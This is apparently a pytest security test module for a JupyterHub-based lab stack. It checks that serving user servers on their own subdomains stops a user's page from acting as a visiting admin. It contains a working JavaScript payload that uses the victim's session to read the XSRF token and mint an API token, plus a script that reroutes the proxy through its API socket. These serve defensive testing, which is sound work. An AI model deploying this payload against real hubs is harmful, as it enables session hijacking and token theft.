"""What a page a user serves can do in another person's browser (README, Security), in Chromium
that trusts the stack's CA as a lab's browsers would.

The attacker is a user who serves a page of their own from their server's address (emulated: the
route to their server points at a process of theirs in their own container, as if it had replaced
the Jupyter server). The victim is the admin, logged in, who opens the page. On the shared site
(the default) the page acts as the admin: it mints an API token. With LABHUB_USER_SUBDOMAINS the
page is on the user's own site and gets nothing of the hub: no cookie, no answer, no token.
The module also checks what users see in that mode: the wildcard certificate, their servers on
their own host, no hub page on it.
"""

import json
import socket
import ssl
import subprocess
import time

import pytest
import requests

import harness
from conftest import CHROMIUM_ARGS, goto, log_in

HOST = "lab.localhost"  # browsers resolve every name under .localhost to this machine
ATTACKER, PASSWORD = "mallory", "Lab-Notebook-2026"
# Served by the attacker's own process: with the visitor's session, reads the hub's token page for
# its XSRF token, asks the hub who the visitor is, then for an API token of theirs; shows what it got.
EVIL_PAGE = """<!doctype html><title>notes</title><pre id="out">working</pre><script>
(async () => {
  const hub = new URLSearchParams(location.search).get("hub") || "";
  const out = {cookies: document.cookie};
  try {
    const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
    const headers = {"X-XSRFToken": page.match(/xsrf_token: "([^"]*)"/)[1], "Content-Type": "application/json"};
    const me = await (await fetch(hub + "/hub/api/user", {credentials: "include", headers})).json();
    out.user = me.name;
    const made = await fetch(hub + "/hub/api/users/" + me.name + "/tokens", {
      method: "POST", credentials: "include", body: JSON.stringify({note: "stolen"}), headers});
    out.token = (await made.json()).token;
  } catch (error) {
    out.error = String(error);
  }
  document.getElementById("out").textContent = JSON.stringify(out);
})();
</script>"""
# Run in the hub container, which holds chp's API socket and token: points a route elsewhere.
REROUTE = """import http.client, json, socket, sys
class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/run/labhub-proxy/api.sock")
api = Unix("localhost")
token = open("/run/labhub-proxy/token").read().strip()
api.request("POST", "/api/routes/" + sys.argv[1], json.dumps({"target": sys.argv[2]}), {"Authorization": "token " + token})
print(api.getresponse().status)
"""


@pytest.fixture(scope="module")
def nss_home(tmp_path_factory, stack):
    """A HOME whose NSS database (Chromium's certificate store on Linux) trusts the stack's CA."""
    home = tmp_path_factory.mktemp("chromium-home")
    db = f"sql:{home}/.pki/nssdb"
    (home / ".pki/nssdb").mkdir(parents=True)
    harness.run("certutil", "-d", db, "-N", "--empty-password")
    harness.run("certutil", "-d", db, "-A", "-t", "C,,", "-n", "labhub", "-i", stack.ca_file)
    return home


@pytest.fixture(scope="module")
def chromium(nss_home):
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS, env={"HOME": str(nss_home)})
        yield browser
        browser.close()


def serve_evil_page(stack, client: harness.HubClient) -> str:
    """The attacker's own process, as the attacker in their container, serves the page under their
    server's URL, and their route leads to it; returns the page's URL."""
    container = stack.user_container(client.user)
    folder = f"/tmp/evil/user/{client.user}"
    subprocess.run(["docker", "exec", "-i", container, "sh", "-c", f"mkdir -p {folder} && cat >{folder}/evil.html"],
                   input=EVIL_PAGE, text=True, check=True)
    harness.docker("exec", "-d", container, "python3", "-m", "http.server", "9999", "--directory", "/tmp/evil")
    networks = json.loads(harness.docker("inspect", "-f", "{{json .NetworkSettings.Networks}}", container))
    ip = next(iter(networks.values()))["IPAddress"]
    spec = (f"{client.user}.{client.user_subdomains_of}" if client.user_subdomains_of else "") + f"/user/{client.user}/"
    routed = harness.docker("exec", stack.container("hub"), "python3", "-c", REROUTE, spec.lstrip("/"), f"http://{ip}:9999")
    assert routed == "201", routed
    url = client.url(f"/user/{client.user}/evil.html")
    deadline = time.monotonic() + 20
    while "working" not in client.http.get(url, timeout=10).text:
        assert time.monotonic() < deadline, "the attacker's page is not served"
        time.sleep(0.5)
    return url


def visit(chromium, hub: str, password: str, url: str) -> dict:
    """The admin logs in at the hub (its URL), then opens url: what the page got."""
    context = chromium.new_context(base_url=hub)
    try:
        page = context.new_page()
        log_in(page, "admin", password)
        assert "/hub/login" not in page.url, page.url
        goto(page, url)
        page.wait_for_function("document.getElementById('out').textContent !== 'working'", timeout=30_000)
        return json.loads(page.text_content("#out"))
    finally:
        context.close()


def attacker(stack, host: str = "") -> harness.HubClient:
    """The attacking user, logged in (signed up the first time), with their server running."""
    client = harness.HubClient(stack, host)
    if "/hub/login" in client.login(ATTACKER, PASSWORD).url:
        admin = harness.HubClient(stack, host)
        assert "/hub/login" not in admin.login("admin", stack.admin_password()).url
        client = harness.native_user(stack, admin, ATTACKER, PASSWORD)
    client.start_server()
    return client


def test_on_the_shared_site_a_users_page_acts_as_its_visitor(stack, chromium):
    """What LABHUB_USER_SUBDOMAINS closes (README, Security): without it, a page served from a
    user's server address runs on the hub's site with the visitor's session."""
    client = attacker(stack)
    try:
        got = visit(chromium, client.base, stack.admin_password(), serve_evil_page(stack, client))
        assert got.get("user") == "admin" and got.get("token"), got
    finally:
        client.stop_server()


@pytest.fixture(scope="module")
def resolved():
    """Names under HOST resolve to this machine in the tests' own lookups too, as browsers resolve them."""
    lookup = socket.getaddrinfo

    def getaddrinfo(host, *args, **kwargs):
        if isinstance(host, str) and (host == HOST or host.endswith("." + HOST)):
            host = "127.0.0.1"
        return lookup(host, *args, **kwargs)

    socket.getaddrinfo = getaddrinfo
    yield
    socket.getaddrinfo = lookup


@pytest.fixture(scope="module")
def subdomains(stack, resolved):
    with stack.configured(user_subdomains="true", hostname=HOST):
        yield stack


def test_the_certificate_covers_the_hub_and_every_users_host(subdomains):
    context = ssl.create_default_context(cafile=subdomains.ca_file)
    for name in (HOST, f"{ATTACKER}.{HOST}", f"someone-else.{HOST}"):
        with socket.create_connection(("127.0.0.1", harness.HTTPS_PORT), timeout=10) as sock:
            with context.wrap_socket(sock, server_hostname=name) as tls:  # verified, name included
                assert tls.version() in ("TLSv1.2", "TLSv1.3")


def test_a_users_servers_are_on_a_host_of_their_own_with_no_hub_page(subdomains):
    client = attacker(subdomains, HOST)
    try:
        lab = client.lab()
        assert lab.status_code == 200 and lab.url.startswith(client.url(f"/user/{ATTACKER}/lab")), lab.url
        kernel = client.start_kernel()
        assert client.execute(kernel, "6 * 7") == "42"
        # The hub's login cookie: on the hub's host alone, and no user's site can set one for it.
        login = [c for c in client.http.cookies if c.name.endswith("jupyterhub-hub-login")]
        assert [(c.name, c.domain) for c in login] == [("__Host-jupyterhub-hub-login", HOST)]
        # The old address of a server leads to its own host.
        moved = client.http.get(f"{client.base}/user/{ATTACKER}/lab", timeout=30)
        assert moved.url.startswith(client.url(f"/user/{ATTACKER}/lab")), moved.url
        # A user's host serves no hub page: a login there would hand that user the hub's cookie.
        bare = requests.Session()
        bare.trust_env = False
        user_site = client.url("/user/").removesuffix("/user/")
        for path in ("/hub/login", "/hub/api/", "/", f"/hub/user/{ATTACKER}/"):
            r = bare.get(user_site + path, verify=subdomains.ca_file, allow_redirects=False, timeout=30)
            assert r.status_code == 404, (path, r.status_code)
        # Another user's browser gets into the server through its host no more than before.
        admin = harness.HubClient(subdomains, HOST)
        admin.login("admin", subdomains.admin_password())
        other = admin.http.get(client.url(f"/user/{ATTACKER}/api/contents"), timeout=30)
        assert other.status_code == 403, other.status_code
    finally:
        client.stop_server()


def test_on_its_own_site_a_users_page_gets_nothing_of_its_visitor(subdomains, chromium):
    client = attacker(subdomains, HOST)
    try:
        url = serve_evil_page(subdomains, client)
        got = visit(chromium, client.base, subdomains.admin_password(), f"{url}?hub={client.base}")
        assert "token" not in got and "user" not in got and "Failed to fetch" in got.get("error", ""), got
        assert "hub-login" not in got["cookies"], got
        # ... nor of the site it is on: the hub is not served there.
        got = visit(chromium, client.base, subdomains.admin_password(), url)
        assert "token" not in got and "user" not in got, got
    finally:
        client.stop_server()
